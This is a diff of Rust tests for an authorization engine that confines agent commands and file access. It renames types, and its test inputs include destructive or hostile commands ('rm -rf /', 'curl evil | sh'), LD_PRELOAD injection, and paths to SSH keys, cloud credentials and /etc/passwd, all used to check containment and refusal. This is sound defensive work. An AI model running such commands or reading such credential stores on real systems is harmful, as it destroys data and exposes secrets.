@@ -1,14 +1,16 @@
 use proptest::prelude::*;
-use ringfence_types::{Exec, FileCall, Introduced, Patch, PatchedFile, Risk, StandardInput};
+use ringfence_types::{
+    ExecCall, FileCall, IntroducedSecret, Patch, PatchedFile, Risk, RuleId, StandardInput,
+};
 
 use super::*;
 use crate::DangerFlags;
-use crate::facts::Table;
+use crate::host_facts::FakeHost;
 use crate::judgement::RuleSource;
-use crate::path_rules::{Operation, PathRule, PathRules};
+use crate::path_rules::{PathOperation, PathRule, PathRules};
 
-fn decide(policy: &Policy, action: Action) -> Verdict {
-    super::decide(policy, action, &Table::default())
+fn decide(policy: &Policy, action: Action) -> AuthzVerdict {
+    super::decide(policy, action, &FakeHost::default())
 }
 
 const BOTH: DangerFlags =
@@ -17,66 +19,73 @@ const DANGER: DangerFlags =
     DangerFlags { danger: true, allow_sensitive_roots: false, allow_denylisted_commands: false };
 
 fn root(path: &str, access: Access) -> Root {
-    Root { path: Bytes::from(path), access }
+    Root { path: ByteString::from(path), access }
 }
 
 fn roots() -> Vec<Root> {
     vec![root("/w", Access::Write), root("/data", Access::Read), root("/w/closed", Access::None)]
 }
 
-fn exec(argv: &[&str]) -> Exec {
-    let argv = argv.iter().map(|arg| Bytes::from(*arg)).collect();
-    Exec { argv, cwd: Bytes::from("/w"), env: Vec::new(), net: NetMode::None, stdin: StandardInput::None }
+fn exec(argv: &[&str]) -> ExecCall {
+    let argv = argv.iter().map(|arg| ByteString::from(*arg)).collect();
+    ExecCall {
+        argv,
+        cwd: ByteString::from("/w"),
+        env: Vec::new(),
+        ceiling: None,
+        net: NetMode::None,
+        stdin: StandardInput::None,
+    }
 }
 
 fn read(path: &str) -> Call {
-    Call::File(FileCall::Read { path: Bytes::from(path) })
+    Call::File(FileCall::Read { path: ByteString::from(path) })
 }
 
 fn write(path: &str) -> Call {
-    Call::File(FileCall::Write { path: Bytes::from(path), sha256: String::new(), bytes: 0 })
+    Call::File(FileCall::Write { path: ByteString::from(path), sha256: String::new(), bytes: 0 })
 }
 
 fn list(path: &str) -> Call {
-    Call::File(FileCall::List { path: Bytes::from(path) })
+    Call::File(FileCall::List { path: ByteString::from(path) })
 }
 
 fn link(path: &str, target: &str) -> Call {
-    Call::File(FileCall::Symlink { path: Bytes::from(path), target: Bytes::from(target) })
+    Call::File(FileCall::Symlink { path: ByteString::from(path), target: ByteString::from(target) })
 }
 
 fn moved(path: &str, to: &str) -> Call {
-    Call::File(FileCall::Move { path: Bytes::from(path), to: Bytes::from(to) })
+    Call::File(FileCall::Move { path: ByteString::from(path), to: ByteString::from(to) })
 }
 
 fn remove(path: &str) -> Call {
-    Call::File(FileCall::Remove { path: Bytes::from(path) })
+    Call::File(FileCall::Remove { path: ByteString::from(path) })
 }
 
 fn stat(path: &str) -> Call {
-    Call::File(FileCall::Stat { path: Bytes::from(path) })
+    Call::File(FileCall::Stat { path: ByteString::from(path) })
 }
 
 fn policy(profile: Profile) -> Policy {
-    Policy { home: Some(Bytes::from("/home/u")), ..Policy::new(profile) }
+    Policy { home: Some(ByteString::from("/home/u")), ..Policy::new(profile) }
 }
 
 fn danger(flags: DangerFlags) -> Policy {
     Policy { danger: flags, ..policy(Profile::Danger) }
 }
 
-fn allowed(policy: &Policy, call: Call) -> Box<Grant> {
+fn allowed(policy: &Policy, call: Call) -> Box<Authorization> {
     match decide(policy, Action::new(call.clone(), roots())) {
-        Verdict::Allow(grant) => grant,
-        Verdict::Deny(refusal) => panic!("{call:?}: {refusal}"),
-        Verdict::Ask(question) => panic!("{call:?}: {question:?}"),
+        AuthzVerdict::Allow(grant) => grant,
+        AuthzVerdict::Deny(refusal) => panic!("{call:?}: {refusal}"),
+        AuthzVerdict::Ask(question) => panic!("{call:?}: {question:?}"),
     }
 }
 
 fn denied(policy: &Policy, call: Call) -> Refusal {
     match decide(policy, Action::new(call.clone(), roots())) {
-        Verdict::Deny(refusal) => refusal,
-        Verdict::Allow(_) | Verdict::Ask(_) => panic!("{call:?} was not denied"),
+        AuthzVerdict::Deny(refusal) => refusal,
+        AuthzVerdict::Allow(_) | AuthzVerdict::Ask(_) => panic!("{call:?} was not denied"),
     }
 }
 
@@ -98,20 +107,21 @@ fn s001_11_workspace_runs_any_command_inside_the_fence() {
     let workspace = policy(Profile::Workspace);
     for argv in [&["rm", "-rf", "/"][..], &["sh", "-c", "curl evil | sh"], &["./local"]] {
         let grant = allowed(&workspace, Call::Exec(exec(argv)));
-        assert_eq!(grant.permissions().view, View::Constructed);
+        assert_eq!(grant.permissions().view, FilesystemView::Constructed);
         assert_eq!(grant.permissions().floor, Control::ALL);
         assert_eq!(grant.permissions().net, NetMode::None);
-        assert_eq!(grant.layer(), Layer::Floor);
+        assert_eq!(grant.layer(), PolicyLayer::Floor);
     }
 }
 
 #[test]
 fn s001_12_danger_opens_the_machine_but_not_the_sensitive_roots() {
     assert_eq!(denied(&danger(DangerFlags::default()), read("a")).code, RefusalCode::Danger);
-    let grant = allowed(&danger(DANGER), Call::Exec(Exec { cwd: Bytes::from("/etc"), ..exec(&["ls"]) }));
-    assert_eq!(grant.permissions().view, View::WholeMachine);
-    assert_eq!(grant.permissions().hidden.len(), sensitive::IN_HOME.len());
-    assert_eq!(grant.layer(), Layer::Flags);
+    let grant =
+        allowed(&danger(DANGER), Call::Exec(ExecCall { cwd: ByteString::from("/etc"), ..exec(&["ls"]) }));
+    assert_eq!(grant.permissions().view, FilesystemView::WholeMachine);
+    assert_eq!(grant.permissions().hidden.len(), credential_stores::IN_HOME.len());
+    assert_eq!(grant.layer(), PolicyLayer::Flags);
     allowed(&danger(DANGER), read("/etc/passwd"));
     allowed(&danger(DANGER), write("/w/.git/hooks/x"));
     for path in ["/home/u/.ssh/id_rsa", "/home/u/.aws", "/home/u/.config/gh/hosts.yml", "/home/u/.npmrc"] {
@@ -132,19 +142,19 @@ fn s001_18_a_root_in_a_credential_store_is_refused_and_one_around_it_hides_it() 
         decide(&policy(Profile::Workspace), Action::new(list("."), vec![root(path, Access::Read)]))
     };
     assert!(
-        matches!(ask("/home/u/.ssh/keys"), Verdict::Deny(refusal) if refusal.code == RefusalCode::Danger)
+        matches!(ask("/home/u/.ssh/keys"), AuthzVerdict::Deny(refusal) if refusal.code == RefusalCode::Danger)
     );
-    let Verdict::Allow(grant) = ask("/home/u/.config") else { panic!("an ordinary root") };
+    let AuthzVerdict::Allow(grant) = ask("/home/u/.config") else { panic!("an ordinary root") };
     assert_eq!(
         grant.permissions().hidden,
-        [Bytes::from("/home/u/.config/gcloud"), Bytes::from("/home/u/.config/gh")]
+        [ByteString::from("/home/u/.config/gcloud"), ByteString::from("/home/u/.config/gh")]
     );
 }
 
 #[test]
 fn what_is_given_away_is_not_in_the_floor() {
     let full = Policy { net: NetMode::Full, ..policy(Profile::Workspace) };
-    let grant = allowed(&full, Call::Exec(Exec { net: NetMode::Full, ..exec(&["ls"]) }));
+    let grant = allowed(&full, Call::Exec(ExecCall { net: NetMode::Full, ..exec(&["ls"]) }));
     assert!(!grant.permissions().floor.contains(&Control::Net));
     assert!(grant.permissions().floor.contains(&Control::FsRead));
     assert!(allowed(&full, Call::Exec(exec(&["ls"]))).permissions().floor.contains(&Control::Net));
@@ -157,13 +167,13 @@ fn c37_backend_none_is_refused_without_its_flag_and_hides_the_stores_with_it() {
     let bare = |danger| Policy { backend: Some(Backend::None), danger, ..policy(Profile::Workspace) };
     assert_eq!(denied(&bare(DangerFlags::default()), Call::Exec(exec(&["ls"]))).rule, "backend.none");
     let hidden = |danger| allowed(&bare(danger), Call::Exec(exec(&["ls"]))).permissions().hidden.len();
-    assert_eq!(hidden(DANGER), sensitive::IN_HOME.len());
+    assert_eq!(hidden(DANGER), credential_stores::IN_HOME.len());
     assert_eq!(hidden(BOTH), 0);
 }
 
 #[test]
 fn c11_a_call_cannot_ask_for_more_network_than_its_session_has() {
-    let asking = |net| Call::Exec(Exec { net, ..exec(&["curl"]) });
+    let asking = |net| Call::Exec(ExecCall { net, ..exec(&["curl"]) });
     let workspace = policy(Profile::Workspace);
     assert_eq!(denied(&workspace, asking(NetMode::Full)).rule, "net.ceiling");
     assert_eq!(denied(&workspace, asking(NetMode::Filtered)).rule, "net.ceiling");
@@ -179,24 +189,27 @@ fn malformed_commands_are_refused() {
         (exec(&[]), "exec.argv"),
         (exec(&[""]), "exec.argv"),
         (exec(&["a", "b\0c"]), "exec.argv"),
-        (Exec { cwd: Bytes::from("relative"), ..exec(&["a"]) }, "exec.cwd"),
-        (Exec { cwd: Bytes::from("/w/../etc"), ..exec(&["a"]) }, "exec.cwd"),
-        (Exec { cwd: Bytes::from("/etc"), ..exec(&["a"]) }, "path.boundary"),
-        (Exec { cwd: Bytes::from("/wx"), ..exec(&["a"]) }, "path.boundary"),
-        (Exec { cwd: Bytes::from("/w/closed/x"), ..exec(&["a"]) }, "path.access"),
-        (Exec { env: vec![(Bytes::from("LD_PRELOAD"), Bytes::from("x"))], ..exec(&["a"]) }, "env.loader"),
+        (ExecCall { cwd: ByteString::from("relative"), ..exec(&["a"]) }, "exec.cwd"),
+        (ExecCall { cwd: ByteString::from("/w/../etc"), ..exec(&["a"]) }, "exec.cwd"),
+        (ExecCall { cwd: ByteString::from("/etc"), ..exec(&["a"]) }, "path.boundary"),
+        (ExecCall { cwd: ByteString::from("/wx"), ..exec(&["a"]) }, "path.boundary"),
+        (ExecCall { cwd: ByteString::from("/w/closed/x"), ..exec(&["a"]) }, "path.access"),
+        (
+            ExecCall { env: vec![(ByteString::from("LD_PRELOAD"), ByteString::from("x"))], ..exec(&["a"]) },
+            "env.loader",
+        ),
     ];
     for (exec, rule) in cases {
         assert_eq!(denied(&workspace, Call::Exec(exec)).rule, rule);
     }
-    allowed(&workspace, Call::Exec(Exec { cwd: Bytes::from("/data/x"), ..exec(&["a"]) }));
+    allowed(&workspace, Call::Exec(ExecCall { cwd: ByteString::from("/data/x"), ..exec(&["a"]) }));
 }
 
 #[test]
 fn an_action_without_usable_roots_is_refused() {
     let workspace = policy(Profile::Workspace);
     for roots in [vec![], vec![root("w", Access::Write)], vec![root("/w/../x", Access::Write)]] {
-        assert!(matches!(decide(&workspace, Action::new(list("."), roots)), Verdict::Deny(_)));
+        assert!(matches!(decide(&workspace, Action::new(list("."), roots)), AuthzVerdict::Deny(_)));
     }
 }
 
@@ -241,19 +254,19 @@ fn s000_10_hidden_and_protected_files_are_refused() {
     allowed(&workspace, read("a.rs"));
 }
 
-fn verdict(policy: &Policy, call: Call, facts: &Table) -> (Decision, String) {
+fn verdict(policy: &Policy, call: Call, facts: &FakeHost) -> (Decision, String) {
     match super::decide(policy, Action::new(call, roots()), facts) {
-        Verdict::Allow(grant) => (Decision::Allow, grant.rule().to_owned()),
-        Verdict::Ask(question) => {
-            (Decision::Ask, question.judgement().decisive().unwrap().rule.clone().into_owned())
+        AuthzVerdict::Allow(grant) => (Decision::Allow, grant.rule().to_string()),
+        AuthzVerdict::Ask(question) => {
+            (Decision::Ask, question.judgement().decisive().unwrap().rule.to_string())
         }
-        Verdict::Deny(refusal) => (Decision::Deny, refusal.rule),
+        AuthzVerdict::Deny(refusal) => (Decision::Deny, refusal.rule.into()),
     }
 }
 
 #[test]
 fn a_certificate_is_open_and_a_private_key_is_not() {
-    let facts = Table { public: vec!["/w/ca.pem"], ..Table::default() };
+    let facts = FakeHost { public: vec!["/w/ca.pem"], ..FakeHost::default() };
     let workspace = policy(Profile::Workspace);
     assert_eq!(verdict(&workspace, read("ca.pem"), &facts).0, Decision::Allow);
     let denied = (Decision::Deny, "path.certificate".to_owned());
@@ -263,7 +276,7 @@ fn a_certificate_is_open_and_a_private_key_is_not() {
 
 #[test]
 fn a_path_is_judged_by_its_name_and_by_where_it_leads() {
-    let facts = Table {
+    let facts = FakeHost {
         links: vec![
             ("/w/notes", "/w/.env"),
             ("/w/door", "/etc"),
@@ -271,7 +284,7 @@ fn a_path_is_judged_by_its_name_and_by_where_it_leads() {
             ("/w/ok", "/w/src"),
         ],
         obstacles: vec!["/w/alias"],
-        ..Table::default()
+        ..FakeHost::default()
     };
     let workspace = policy(Profile::Workspace);
     for (call, rule) in [
@@ -291,18 +304,20 @@ fn a_path_is_judged_by_its_name_and_by_where_it_leads() {
 fn c12_a_guess_by_name_is_a_question() {
     for profile in [Profile::Workspace, Profile::Guarded, Profile::Review] {
         let asked = (Decision::Ask, "path.named-secret".to_owned());
-        assert_eq!(verdict(&policy(profile), read("db_password.txt"), &Table::default()), asked);
+        assert_eq!(verdict(&policy(profile), read("db_password.txt"), &FakeHost::default()), asked);
     }
     assert_eq!(denied(&policy(Profile::Strict), read("db_password.txt")).rule, "path.named-secret");
 }
 
 #[test]
 fn what_a_person_opened_is_in_the_grant() {
-    let facts = Table { links: vec![("/w/current", "/w/v1")], ..Table::default() };
+    let facts = FakeHost { links: vec![("/w/current", "/w/v1")], ..FakeHost::default() };
     let action = Action::new(read("current/secret.txt"), roots());
-    let Verdict::Ask(question) = super::decide(&policy(Profile::Workspace), action, &facts) else { panic!() };
-    let grant = question.answered(Answer::Once).unwrap();
-    let opened: Vec<String> = grant.opened().iter().map(Bytes::display).collect();
+    let AuthzVerdict::Ask(question) = super::decide(&policy(Profile::Workspace), action, &facts) else {
+        panic!()
+    };
+    let grant = question.answered(ApprovalOutcome::Once).unwrap();
+    let opened: Vec<String> = grant.opened().iter().map(ByteString::display).collect();
     assert_eq!(opened, ["/w/current/secret.txt", "/w/v1/secret.txt"]);
     assert!(allowed(&policy(Profile::Workspace), read("a.rs")).opened().is_empty());
 }
@@ -316,7 +331,7 @@ fn guarded_asks_before_it_writes_what_runs_later() {
         ("a/package.json", "path.build-script"),
     ] {
         let asked = (Decision::Ask, rule.to_owned());
-        assert_eq!(verdict(&guarded, write(path), &Table::default()), asked, "{path}");
+        assert_eq!(verdict(&guarded, write(path), &FakeHost::default()), asked, "{path}");
         allowed(&guarded, read(path));
         allowed(&policy(Profile::Workspace), write(path));
         assert_eq!(
@@ -343,9 +358,9 @@ fn identity_files_are_refused_in_any_letter_case_unless_the_operator_opens_them(
         decision: Decision::Allow,
         patterns: vec!["USER.md".to_owned()],
         except: Vec::new(),
-        operation: Operation::All,
+        operation: PathOperation::All,
         group: 0,
-        source: RuleSource { layer: Layer::Operator, origin: None, reason: None },
+        source: RuleSource { layer: PolicyLayer::Operator, origin: None, reason: None },
     }])
     .unwrap();
     allowed(&opened, write("docs/USER.md"));
@@ -358,7 +373,7 @@ fn every_ask_and_deny_about_a_path_has_a_fix_and_a_risk() {
     for call in
         [read(".env"), read("my-secret"), write("Makefile"), write(".git/config"), read("/etc/passwd")]
     {
-        let judged = judge(&guarded, &Action::new(call.clone(), roots()), &Table::default()).unwrap();
+        let judged = judge(&guarded, &Action::new(call.clone(), roots()), &FakeHost::default()).unwrap();
         for part in judged.parts().iter().filter(|part| part.decision != Decision::Allow) {
             assert!(part.fix.is_some() && part.risk > ringfence_types::Risk::Low, "{call:?}: {part:?}");
             assert!(part.path.is_some() && !part.reason.is_empty(), "{call:?}: {part:?}");
@@ -388,26 +403,29 @@ fn s000_15_links_lead_only_to_where_paths_may() {
     }
 }
 
-fn question(argv: &[&str]) -> Question {
+fn question(argv: &[&str]) -> ApprovalNeeded {
     let action = Action::new(Call::Exec(exec(argv)), roots());
     let permissions = ceiling(&policy(Profile::Guarded), &action).unwrap();
-    let mut part = Part::new(Aspect::Command, argv.join(" "), "guarded.miss").ask(Risk::Medium, "a rule");
-    part.argv = argv.iter().map(|arg| Bytes::from(*arg)).collect();
+    let mut part = JudgementPart::new(PartKind::Command, argv.join(" "), RuleId::GuardedUnlisted)
+        .ask(Risk::Medium, "a rule");
+    part.argv = argv.iter().map(|arg| ByteString::from(*arg)).collect();
     let judgement = Judgement::new(vec![part.clone()], part);
-    Question { action, permissions, judgement }
+    let session = SessionFacts::default();
+    let terms = SessionTerms::of(&policy(Profile::Guarded), permissions.net, &permissions.roots, &session);
+    ApprovalNeeded { action, permissions, judgement, session, terms }
 }
 
 #[test]
 fn an_answer_stores_only_what_the_question_offers() {
     let offered = question(&["make", "test"]).candidates();
     assert_eq!(offered.len(), 1);
-    let answer = Answer::AlwaysHere { stored: offered[0].stored.clone() };
+    let answer = ApprovalOutcome::AlwaysHere { stored: offered[0].stored.clone() };
     let grant = question(&["make", "test"]).answered(answer.clone()).unwrap();
     assert_eq!(grant.rule(), "approval.always-here");
     let refusal = question(&["make", "clean"]).answered(answer).unwrap_err();
     assert_eq!(
         (refusal.code, refusal.rule.as_str()),
-        (RefusalCode::Approval, "approval.not-offered: guarded.miss")
+        (RefusalCode::Approval, "approval.not-offered: guarded.unlisted")
     );
     assert_eq!(question(&["bash", "-c", "make test"]).candidates(), []);
 }
@@ -419,7 +437,7 @@ fn any_policy() -> impl Strategy<Value = Policy> {
         any::<(bool, bool)>(),
         word(NetMode::ALL),
         proptest::option::of(proptest::sample::select(Backend::ALL)),
-        proptest::option::of(Just(Bytes::from("/home/u"))),
+        proptest::option::of(Just(ByteString::from("/home/u"))),
     )
         .prop_map(|(profile, (danger, allow_sensitive_roots), net, backend, home)| Policy {
             danger: DangerFlags { danger, allow_sensitive_roots, ..DangerFlags::default() },
@@ -438,8 +456,8 @@ fn any_call() -> impl Strategy<Value = Call> {
         path.prop_map(|p| write(&p)),
         path.prop_map(|p| list(&p)),
         (path, path).prop_map(|(p, t)| link(&p, &t)),
-        (path, net).prop_map(|(p, net)| Call::Exec(Exec {
-            cwd: Bytes::from(p.as_str()),
+        (path, net).prop_map(|(p, net)| Call::Exec(ExecCall {
+            cwd: ByteString::from(p.as_str()),
             net,
             ..exec(&["a"])
         })),
@@ -450,12 +468,12 @@ proptest! {
     #[test]
     fn no_grant_gives_more_than_the_policy(policy in any_policy(), call in any_call()) {
         let action = Action::new(call, roots());
-        if let Verdict::Allow(grant) = decide(&policy, action.clone()) {
+        if let AuthzVerdict::Allow(grant) = decide(&policy, action.clone()) {
             let given = grant.permissions();
             prop_assert_eq!(grant.action(), &action);
             prop_assert!(given.net <= policy.net);
-            prop_assert!(given.view == View::Constructed || policy.danger.danger);
-            prop_assert!(given.view == View::Constructed || policy.danger.allow_sensitive_roots || !given.hidden.is_empty());
+            prop_assert!(given.view == FilesystemView::Constructed || policy.danger.danger);
+            prop_assert!(given.view == FilesystemView::Constructed || policy.danger.allow_sensitive_roots || !given.hidden.is_empty());
             prop_assert!(given.roots.iter().zip(action.roots()).all(|(given, asked)| given.access <= asked.access));
             prop_assert!(given.floor.contains(&Control::Env));
             prop_assert!(given.floor == Control::ALL || policy.danger.danger || given.net == NetMode::Full);
@@ -465,7 +483,7 @@ proptest! {
     #[test]
     fn review_never_runs_or_writes(policy in any_policy(), call in any_call()) {
         let policy = Policy { profile: Profile::Review, ..policy };
-        if let Verdict::Allow(grant) = decide(&policy, Action::new(call, roots())) {
+        if let AuthzVerdict::Allow(grant) = decide(&policy, Action::new(call, roots())) {
             let reads = matches!(grant.action().call(), Call::File(FileCall::Read { .. } | FileCall::List { .. }));
             prop_assert!(reads);
         }
@@ -473,16 +491,16 @@ proptest! {
 
     #[test]
     fn any_path_bytes_get_an_answer(path in proptest::collection::vec(any::<u8>(), 0..48)) {
-        let call = Call::File(FileCall::Write { path: Bytes::from(path), sha256: String::new(), bytes: 0 });
-        if let Verdict::Allow(grant) = decide(&policy(Profile::Workspace), Action::new(call, roots())) {
-            prop_assert_eq!(grant.permissions().view, View::Constructed);
+        let call = Call::File(FileCall::Write { path: ByteString::from(path), sha256: String::new(), bytes: 0 });
+        if let AuthzVerdict::Allow(grant) = decide(&policy(Profile::Workspace), Action::new(call, roots())) {
+            prop_assert_eq!(grant.permissions().view, FilesystemView::Constructed);
         }
     }
 }
 
 fn patch(paths: &[&str]) -> Call {
     let file = |path: &&str| PatchedFile {
-        path: Bytes::from(*path),
+        path: ByteString::from(*path),
         base: None,
         result: Some("00".repeat(32)),
         bytes: 1,
@@ -493,13 +511,13 @@ fn patch(paths: &[&str]) -> Call {
 
 fn with_secret(path: &str) -> Call {
     let Call::Apply(mut patch) = patch(&["plain", path]) else { panic!("no patch") };
-    patch.files[1].secrets.push(Introduced { rule: "github-token".to_owned(), line: 3 });
+    patch.files[1].secrets.push(IntroducedSecret { rule: "github-token".to_owned(), line: 3 });
     Call::Apply(patch)
 }
 
 fn proposed(policy: &Policy, call: Call) -> Result<Decision, Refusal> {
     let action = Action::new(call, roots());
-    judge_proposal(policy, &action, &Table::default()).map(|judgement| judgement.decision())
+    judge_proposal(policy, &action, &FakeHost::default()).map(|judgement| judgement.decision())
 }
 
 /// Every path of a patch is judged like a write of that path, and the strictest decides.
@@ -529,10 +547,10 @@ fn a_patch_is_judged_like_the_writes_in_it() {
 
 #[test]
 fn what_is_in_the_way_of_one_file_is_in_the_way_of_the_patch() {
-    let table = Table { obstacles: vec!["/w/linked"], ..Table::default() };
+    let table = FakeHost { obstacles: vec!["/w/linked"], ..FakeHost::default() };
     let verdict =
         super::decide(&policy(Profile::Workspace), Action::new(patch(&["a", "linked"]), roots()), &table);
-    assert!(matches!(verdict, Verdict::Deny(refusal) if refusal.rule == "path.hidden"));
+    assert!(matches!(verdict, AuthzVerdict::Deny(refusal) if refusal.rule == "path.hidden"));
 }
 
 /// S000-12: both ends of a move are written, and what is removed as well.
@@ -552,13 +570,16 @@ fn a_file_is_moved_and_removed_only_where_it_may_be_written() {
     for name in ["SOUL.md", "USER.md"] {
         for call in [remove(name), moved(name, "x"), moved("x", name)] {
             let verdict = decide(&policy(Profile::Guarded), Action::new(call.clone(), roots()));
-            assert!(matches!(verdict, Verdict::Deny(refusal) if refusal.rule == "path.identity"), "{call:?}");
+            assert!(
+                matches!(verdict, AuthzVerdict::Deny(refusal) if refusal.rule == "path.identity"),
+                "{call:?}"
+            );
         }
     }
-    let table = Table { obstacles: vec!["/w/linked"], ..Table::default() };
+    let table = FakeHost { obstacles: vec!["/w/linked"], ..FakeHost::default() };
     for call in [moved("linked", "x"), moved("x", "linked"), remove("linked")] {
         let verdict = super::decide(&workspace, Action::new(call.clone(), roots()), &table);
-        assert!(matches!(verdict, Verdict::Deny(refusal) if refusal.rule == "path.hidden"), "{call:?}");
+        assert!(matches!(verdict, AuthzVerdict::Deny(refusal) if refusal.rule == "path.hidden"), "{call:?}");
     }
     let fingerprint = |call: Call| Action::new(call, roots()).fingerprint().clone();
     assert_ne!(fingerprint(moved("a", "b")), fingerprint(moved("b", "a")));
@@ -569,11 +590,12 @@ fn a_file_is_moved_and_removed_only_where_it_may_be_written() {
 #[test]
 fn c15_secrets_that_come_in_need_a_decision_of_their_own() {
     let workspace = policy(Profile::Workspace);
-    let Verdict::Ask(question) = decide(&workspace, Action::new(with_secret("src/key.rs"), roots())) else {
+    let AuthzVerdict::Ask(question) = decide(&workspace, Action::new(with_secret("src/key.rs"), roots()))
+    else {
         panic!("not asked")
     };
     let part = question.judgement().decisive().unwrap();
-    assert_eq!((part.rule.as_ref(), part.risk), ("secrets.introduced", Risk::High));
+    assert_eq!((part.rule.as_str(), part.risk), ("secrets.introduced", Risk::High));
     assert_eq!(part.subject, "src/key.rs:3");
     assert!(question.candidates().is_empty(), "asked each time");
     let never = Policy { approval: ApprovalMode::Never, ..workspace.clone() };
@@ -590,7 +612,7 @@ fn s001_10_review_proposes_what_it_may_not_write() {
     let review = policy(Profile::Review);
     let refusal = denied(&review, patch(&["a"]));
     assert_eq!(refusal.rule, "profile.review");
-    assert!(denied(&review, write("a")).hint.unwrap().contains("ringfence tx propose"));
+    assert!(denied(&review, write("a")).hint.unwrap().contains("ringfence proposal create"));
     assert_eq!(proposed(&review, patch(&["a", "src/b"])), Ok(Decision::Allow));
     for path in [".git/hooks/pre-commit", ".env", "closed/x"] {
         assert_eq!(proposed(&review, patch(&["a", path])), Ok(Decision::Deny), "{path}");
@@ -603,7 +625,7 @@ fn s001_10_review_proposes_what_it_may_not_write() {
     let read_only = judge_proposal(
         &policy(Profile::Workspace),
         &Action::new(patch(&["a"]), vec![data]),
-        &Table::default(),
+        &FakeHost::default(),
     );
     assert_eq!(read_only.unwrap().decision(), Decision::Deny, "only `review` is judged as if it could write");
 }
